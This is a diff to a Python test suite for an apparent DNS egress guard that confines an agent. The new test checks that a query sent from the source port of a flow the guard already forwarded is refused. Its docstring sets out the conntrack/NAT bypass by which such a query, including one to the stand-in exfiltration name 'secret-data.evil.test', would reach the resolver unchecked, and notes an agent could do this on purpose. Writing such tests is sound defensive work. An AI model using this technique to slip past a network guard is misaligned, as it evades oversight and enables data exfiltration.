@@ -11,6 +11,7 @@ from __future__ import annotations
 import json
 import os
 import queue
+import secrets
 import shutil
 import subprocess
 import tempfile
@@ -47,9 +48,10 @@ class Guarded:
     def env(self) -> dict[str, str]:
         return {"PYTHONPATH": self.src, "SECURE_PROXY_RUN_DIR": str(self.tmp / "run")}
 
-    def query(self, name, server=None, tcp=False, user=APP_UID, qtype="A", port=53):
+    def query(self, name, server=None, tcp=False, user=APP_UID, qtype="A", port=53, source=0):
         argv = [python_bin(), "-m", "tests.harness.dns", "query", "--name", name]
         argv += ["--server", server or self.topo.net_ip, "--type", qtype, "--port", str(port)]
+        argv += ["--source-port", str(source)]
         argv += ["--timeout", "2"] + (["--tcp"] if tcp else [])
         r = self.topo.box_run(argv, user=user, env={"PYTHONPATH": self.src}, timeout=15)
         return json.loads(r.stdout)
@@ -190,6 +192,24 @@ def test_only_proxy_user_reaches_the_resolver_directly(guarded):
     res = guarded.query("secret-data.evil.test", user=PROXY_UID)
     assert res["status"] == "ok", res
     assert guarded.names_upstream() == ["secret-data.evil.test"]
+
+
+@pytest.mark.parametrize("fam", [4, 6])
+def test_a_user_query_on_a_flow_of_the_guard_is_refused(guarded, fam):
+    """NAT is decided on a flow's first packet only. A user's query sent from the source
+    port of a query the guard just forwarded (same resolver, same port) belongs to the
+    guard's conntrack entry: it is not redirected, and the rule accepting established
+    traffic would carry it to the resolver, unjudged. Under load this happens by chance
+    (the ports are ephemeral); an agent can also do it on purpose."""
+    server = guarded.topo.net_ip if fam == 4 else guarded.topo.net_ip6
+    port = 41000 + secrets.randbelow(2000) + 2000 * (fam == 6)
+    guarded.names_upstream(0)
+    first = guarded.query("example.com", server=server, user=PROXY_UID, source=port)
+    assert first["status"] == "ok", first
+    assert guarded.names_upstream() == ["example.com"]
+    second = guarded.query("secret-data.evil.test", server=server, source=port)
+    assert second["status"] != "ok", second
+    assert guarded.names_upstream() == []
 
 
 def test_every_query_is_a_log_record(guarded):
